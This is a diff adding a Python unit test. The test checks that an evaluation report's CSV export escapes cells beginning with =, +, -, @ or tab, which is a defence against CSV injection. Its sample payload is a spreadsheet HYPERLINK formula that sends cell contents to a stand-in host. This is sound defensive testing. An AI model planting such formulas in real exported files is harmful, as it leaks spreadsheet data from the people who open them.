@@ -495,6 +495,31 @@ def test_report_escapes_everything_and_lists_every_miss(
     assert "\\| pipe" in md and "| tricky&lt;kind&gt; | 1 |" in md and "| unanswerable | 1 |" in md
 
 
+def test_csv_cells_that_a_spreadsheet_would_run_stay_text(tmp_path: Path) -> None:
+    """A quoted document sentence or a question starting with "=" (or + - @ tab) was written
+    to --csv as is, and a spreadsheet opening it runs it as a formula (CSV injection)."""
+    evil = '=HYPERLINK("http://x.example/?"&A1,"see")'
+    record = {"id": "@id", "question": "+1 or -1?", "gold": ["-5"], "answerable": True,
+              "prediction": evil, "answer": f"{evil} [1]", "text": f"{evil} [1]",
+              "lead": {"text": "-5 degrees"}, "abstained": False, "confidence": -0.5,
+              "no_answer_probability": 1.5, "read_as": "\tcmd", "citations": [],
+              "passages": [], "latency_ms": 1.0}
+    outputs = eval_report.Outputs.open(out=None, csv=str(tmp_path / "p.csv"), report=None,
+                                       metrics=None)
+    outputs.write(record)
+    outputs.write({**record, "id": "plain", "question": "Who?", "prediction": "Paul",
+                   "lead": None, "read_as": None})
+    outputs.finish({}, [], "t")
+    rows = list(csv.DictReader((tmp_path / "p.csv").open(encoding="utf-8", newline="")))
+    assert rows[0]["id"] == "'@id" and rows[0]["question"] == "'+1 or -1?"
+    assert rows[0]["prediction"] == f"'{evil}" and rows[0]["text"] == f"'{evil} [1]"
+    assert rows[0]["lead"] == "'-5 degrees" and rows[0]["read_as"] == "'\tcmd"
+    assert rows[0]["gold"] == '["-5"]' and rows[0]["confidence"] == "-0.5"  # numbers as is
+    assert rows[1]["id"] == "plain" and rows[1]["prediction"] == "Paul"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows
+                   for name, cell in row.items() if name != "confidence")
+
+
 def test_lead_metrics_count_shown_leads_and_their_precision() -> None:
     def outcome(has_answer: bool, abstained: bool, lead: bool, right: bool) -> evaluation.Outcome:
         return evaluation.Outcome(None, has_answer, abstained, 0.5, 1.0, None, False, False,
